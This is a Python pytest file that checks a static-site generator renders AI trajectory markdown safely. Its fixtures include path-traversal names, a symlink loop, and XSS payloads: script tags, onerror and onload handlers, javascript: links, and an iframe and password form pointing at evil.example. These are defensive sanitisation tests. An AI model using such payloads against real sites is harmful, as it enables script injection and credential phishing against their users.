"""A messy folder: every bad case next to good files; the site still builds with --strict,
every file is accounted for, nothing is written outside the output folder, and nothing
from the input reaches readers as active HTML."""

from __future__ import annotations

import gzip
import json
import os
import shutil
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from generator.build import build
from generator.config import BuildConfig

from .conftest import SAMPLES, mkdocs_build

PLAN = """### Remove A
- **Ablated Part**: module A
- **Action**: REMOVE
- **Metrics**: accuracy
"""
INJECT = """<script>alert('reasoning')</script>
<img src=x onerror="alert('img')"> [click me](javascript:alert('link'))
<iframe src="https://evil.example/"></iframe> <style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"><button>go</button></form>
<a href="#" onclick="alert('a')">handler</a> <svg onload="alert('svg')"></svg>
"""


def trajectory(heading: str, reasoning: str | None = "Some reasoning.", plan: str | None = PLAN) -> str:
    parts = [f"# {heading}", ""]
    if reasoning is not None:
        parts += ['<div class="trajectory-box">', "<h2>🧠 Reasoning Trace</h2>", "", reasoning, "</div>", ""]
    if plan is not None:
        parts += ['<div class="trajectory-box">', "<h2>📋 Ablation Plan</h2>", "", plan, "</div>", ""]
    return "\n".join(parts)


def messy_folder(root: Path) -> dict[str, str]:
    """Write every case; return {source: what must happen to it}."""
    expect: dict[str, str] = {}

    def put(name: str, data: bytes | str, outcome: str) -> None:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        expect[name] = outcome

    for f in sorted(SAMPLES.iterdir()):
        put(f"samples/{f.name}", f.read_bytes(), "page")
    put("empty.md", b"", "error:empty")
    put("image.png", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "error:PNG|binary")
    put("nul.md", trajectory("p/gpt-4o/nul_paper").encode() + b"\x00\x00binary\x00", "error:NUL")
    put("no_heading.txt", "Just some notes, no trajectory here.\n", "error:heading")
    put("truncated.md", trajectory("p/gpt-4o/truncated", plan=PLAN + "\n### Cut\n- **Ablated Part**: half a sen"),
        "page")
    put("no_reasoning.md", trajectory("p/gpt-4o/no_reasoning", reasoning=None), "page")
    put("no_plan.md", trajectory("p/gpt-4o/no_plan", plan=None), "page")
    put("weird/dots.md", trajectory("p/gpt-4o/../../../outside"), "page")
    put("weird/slash.md", trajectory('p/my model "q"/a/b\\c d'), "page")
    put("weird/unicode.md", trajectory("p/modèle-ü/论文 ünïcødé"), "page")
    put("dup/first.md", trajectory("p/gpt-4o/dup_paper"), "page")
    put("dup/second.md", trajectory("p/gpt-4o/dup_paper", plan=PLAN + "### Cut\n- **Ablated Part**: x"),
        "duplicate")  # more ablations, but truncated: the complete one is kept
    put("huge.md", trajectory("p/gpt-4o/huge", reasoning="word " * 420_000), "page")  # 2 MB, one line
    nested = "<div>" * 5000 + "deep" + "</span>" * 10 + "<b><i>bad</b></i><table><tr><td>x"
    put("nested.md", trajectory("p/gpt-4o/nested_html", reasoning=nested), "page")
    put("inject.md", trajectory("p/gpt-4o/inject_paper", reasoning=INJECT,
                                plan=PLAN.replace("module A", "<script>alert('plan')</script> A")
                                .replace("Remove A", "Remove <img src=x onerror=alert('name')>")),
        "page")
    put("inject_ids.md", trajectory("p/<script>alert('model')</script>/<img src=x onerror=alert(1)>"), "page")
    return expect


@pytest.fixture(scope="module")
def messy_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("messy")
    src = root / "input"
    expect = messy_folder(src)
    os.symlink(src, src / "weird" / "loop")  # a symlink loop
    expect["weird/loop"] = "error:loop"
    docs = root / "out" / "site_src"
    result = build(BuildConfig(sources=(src,), out=docs))
    site = root / "out" / "site"
    mkdocs_build(docs, site)
    return root, expect, result, docs, site


def test_every_file_is_a_page_a_duplicate_or_an_error(messy_site):
    _, expect, result, docs, _ = messy_site
    report = json.loads((docs / "data" / "report.json").read_text(encoding="utf-8"))
    pages = {r["source"] for r in json.loads(gzip.decompress((docs / "data" / "trajectories.json.gz").read_bytes()))}
    dups = {d["source"]: d for d in report["duplicates"]}
    errors = {e["source"]: e["error"] for e in report["errors"]}
    assert report["files"] == len(expect)
    assert len(pages) + len(dups) + len(errors) == len(expect)
    for source, outcome in expect.items():
        kind, _, word = outcome.partition(":")
        if kind == "page":
            assert source in pages, source
        elif kind == "duplicate":
            assert dups[source]["kept"] == "dup/first.md"
            assert "fewer warnings" in dups[source]["reason"]
        else:
            assert any(w.lower() in errors[source].lower() for w in word.split("|")), (source, errors.get(source))


def test_errors_say_what_was_expected(messy_site):
    _, _, result, _, _ = messy_site
    for issue in result.catalog.report.errors:
        if issue.source != "weird/loop":
            assert "expected" in issue.message, issue


def test_salvaged_files_carry_warnings(messy_site):
    _, _, result, _, _ = messy_site
    warned = {w.source: w.message for w in result.catalog.report.warnings}
    assert "truncated" in warned["truncated.md"]
    assert "no 'Reasoning Trace'" in warned["no_reasoning.md"]
    assert "no 'Ablation Plan'" in warned["no_plan.md"]
    by_source = {t.source: t for t in result.catalog.trajectories}
    assert [a.name for a in by_source["truncated.md"].ablations] == ["Remove A", "Cut"]


def test_nothing_is_written_outside_the_output_folder(messy_site):
    root, _, result, docs, _ = messy_site
    assert sorted(p.name for p in root.iterdir()) == ["input", "out"]
    assert sorted(p.name for p in (root / "out").iterdir()) == ["site", "site_src"]
    for page in result.catalog.pages.values():
        assert (docs / page).resolve().is_relative_to(docs.resolve())


def test_no_input_script_or_handler_survives_in_the_html(messy_site):
    _, _, _, _, site = messy_site
    checked = 0
    for f in site.rglob("*.html"):
        soup = BeautifulSoup(f.read_text(encoding="utf-8"), "html.parser")
        for script in soup.find_all("script"):
            assert "alert" not in script.get_text(), f
        for tag in soup.find_all(True):
            for attr, value in tag.attrs.items():
                assert not attr.lower().startswith("on"), (f, tag.name, attr)
                if attr in ("href", "src", "action"):
                    assert "javascript:" not in str(value).lower(), (f, value)
                if attr in ("src", "action", "srcset", "data"):  # would load from another host
                    assert "evil.example" not in str(value), (f, value)
        article = soup.select_one("article")
        if article is not None:
            assert not article.find_all(["iframe", "form", "style", "button", "script", "foreignobject"]), f
            assert all("tj-chart" in svg.get("class", []) for svg in article.find_all("svg")), f  # ours only
            checked += 1
    assert checked > 10
    page = site / "trajectories/p/gpt-4o/inject-paper/index.html"
    text = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").select_one("article").get_text()
    assert "<script>alert('reasoning')</script>" in text  # shown to the reader as text


def test_huge_and_nested_inputs_render_their_plan(messy_site):
    _, _, _, _, site = messy_site
    for slug in ("huge", "nested-html"):
        html = (site / f"trajectories/p/gpt-4o/{slug}/index.html").read_text(encoding="utf-8")
        assert 'id="ablation-1"' in html and "module A" in html


def test_second_run_changes_nothing(messy_site):
    root, _, _, docs, _ = messy_site
    before = {p: p.stat().st_mtime_ns for p in docs.rglob("*") if p.is_file()}
    again = build(BuildConfig(sources=(root / "input",), out=docs))
    assert again.written.written == () and again.written.removed == ()
    assert {p: p.stat().st_mtime_ns for p in docs.rglob("*") if p.is_file()} == before


def test_missing_source_is_a_clear_error(tmp_path):
    from generator.pipeline.read import SourceNotFound

    with pytest.raises(SourceNotFound, match="does-not-exist"):
        build(BuildConfig(sources=(tmp_path / "does-not-exist",), out=tmp_path / "out"))
    assert not (tmp_path / "out").exists()
    shutil.rmtree(tmp_path, ignore_errors=True)
